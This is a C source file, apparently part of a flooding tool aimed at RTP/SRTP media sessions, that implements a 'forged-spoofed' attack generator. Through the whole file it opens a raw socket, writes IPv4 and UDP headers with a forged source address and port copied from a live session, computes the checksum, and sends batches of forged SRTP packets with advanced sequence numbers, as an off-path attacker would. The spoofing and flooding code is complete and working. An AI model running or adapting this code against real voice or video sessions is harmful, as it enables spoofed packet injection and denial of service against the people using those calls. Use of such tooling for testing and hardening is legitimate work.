/* forged-spoofed: forged-own's SRTP wrapped in IPv4 and UDP headers (checksum
 * included) with the session's own address and port as source, sent from a raw
 * socket as an off-path attacker who knows the 5-tuple would. */
#include "attack_spoofed.h"
#include "attack_generator.h"
#include "forged_srtp.h"

#include "rtp/rtp_bytes.h"

#include <errno.h>
#include <glib.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>

#define IPV4_HEADER 20
#define UDP_HEADER  8

typedef struct {
    flood_session *const *sessions;
    size_t n_sessions;
    size_t next_session;
    uint64_t k;
    int fd;
    flood_random random;
} spoof_state;

int attack_spoofed_open_socket(char *error, size_t error_size)
{
    int fd = socket(AF_INET, SOCK_RAW | SOCK_NONBLOCK | SOCK_CLOEXEC, IPPROTO_RAW);
    if (fd < 0)
        snprintf(error, error_size, "forged-spoofed needs a raw socket (root or CAP_NET_RAW): %s",
                 strerror(errno));
    return fd;
}

static bool ipv4_of(const struct sockaddr_in6 *address, uint8_t out[4])
{
    if (!IN6_IS_ADDR_V4MAPPED(&address->sin6_addr))
        return false;
    memcpy(out, &address->sin6_addr.s6_addr[12], 4);
    return true;
}

static void *create_spoofed(const attack_environment *env, char *error, size_t error_size)
{
    if (env->spoof_fd < 0 || env->n_sessions == 0) {
        snprintf(error, error_size, "forged-spoofed needs a raw socket and a connected session");
        return NULL;
    }
    uint8_t unused[4];
    for (size_t i = 0; i < env->n_sessions; i++) {
        const flood_session *s = env->sessions[i];
        if (!ipv4_of(&s->remote, unused) || !ipv4_of(&s->reflexive, unused)) {
            snprintf(error, error_size, "forged-spoofed spoofs IPv4 only; session %zu is IPv6", i);
            return NULL;
        }
    }
    spoof_state *state = g_new0(spoof_state, 1);
    state->sessions = env->sessions;
    state->n_sessions = env->n_sessions;
    state->fd = env->spoof_fd;
    flood_random_seed(&state->random);
    return state;
}

static uint32_t sum16(const uint8_t *data, size_t length, uint32_t sum)
{
    for (size_t i = 0; i + 1 < length; i += 2)
        sum += moat_rd16(data + i);
    if (length % 2)
        sum += (uint32_t)data[length - 1] << 8;
    return sum;
}

/* RFC 768 checksum over the pseudo-header and the UDP datagram. */
static uint16_t udp_checksum(const uint8_t source[4], const uint8_t destination[4],
                             const uint8_t *udp, size_t length)
{
    uint32_t sum = sum16(source, 4, 0);
    sum = sum16(destination, 4, sum);
    sum += IPPROTO_UDP;
    sum += (uint32_t)length;
    sum = sum16(udp, length, sum);
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    uint16_t result = (uint16_t)~sum;
    return result != 0 ? result : 0xffff;
}

/* IPv4 + UDP headers around a payload already at out + 28. */
static size_t wrap(spoof_state *state, const uint8_t source[4], uint16_t source_port,
                   const uint8_t destination[4], uint16_t destination_port, uint8_t *out,
                   size_t payload_length)
{
    size_t udp_length = UDP_HEADER + payload_length;
    size_t total = IPV4_HEADER + udp_length;
    uint8_t *ip = out;
    ip[0] = 0x45; /* version 4, 20-octet header */
    ip[1] = 0;
    moat_wr16(ip + 2, (uint16_t)total);
    moat_wr16(ip + 4, (uint16_t)flood_random_u32(&state->random));
    moat_wr16(ip + 6, 0x4000); /* DF */
    ip[8] = 64;
    ip[9] = IPPROTO_UDP;
    moat_wr16(ip + 10, 0); /* the kernel fills the header checksum */
    memcpy(ip + 12, source, 4);
    memcpy(ip + 16, destination, 4);
    uint8_t *udp = out + IPV4_HEADER;
    moat_wr16(udp, source_port);
    moat_wr16(udp + 2, destination_port);
    moat_wr16(udp + 4, (uint16_t)udp_length);
    moat_wr16(udp + 6, 0);
    moat_wr16(udp + 6, udp_checksum(source, destination, udp, udp_length));
    return total;
}

static size_t fill_spoofed(void *state_pointer, attack_batch *batch, size_t max, uint64_t now_us)
{
    spoof_state *state = state_pointer;
    flood_session *s = state->sessions[state->next_session];
    state->next_session = (state->next_session + 1) % state->n_sessions;
    uint8_t source[4] = {0}, destination[4] = {0};
    ipv4_of(&s->reflexive, source);
    ipv4_of(&s->remote, destination);
    struct sockaddr_in to = {.sin_family = AF_INET};
    memcpy(&to.sin_addr, destination, 4);
    batch->fd = state->fd;
    memset(&batch->destination, 0, sizeof batch->destination);
    memcpy(&batch->destination, &to, sizeof to);
    batch->destination_length = sizeof to;
    for (size_t i = 0; i < max; i++) {
        uint8_t *packet = batch->datagrams[i];
        uint16_t sequence = forged_srtp_sequence_ahead(s, state->k++);
        size_t payload =
            forged_srtp_rtp(s, s->ssrc, sequence, &state->random, packet + IPV4_HEADER + UDP_HEADER,
                            ATTACK_DATAGRAM_CAPACITY - IPV4_HEADER - UDP_HEADER);
        batch->lengths[i] = wrap(state, source, ntohs(s->reflexive.sin6_port), destination,
                                 ntohs(s->remote.sin6_port), packet, payload);
    }
    return max;
}

static void destroy_spoofed(void *state)
{
    g_free(state);
}

const attack_generator attack_forged_spoofed = {
    .kind = ATTACK_FORGED_SPOOFED,
    .create = create_spoofed,
    .fill = fill_spoofed,
    .destroy = destroy_spoofed,
};
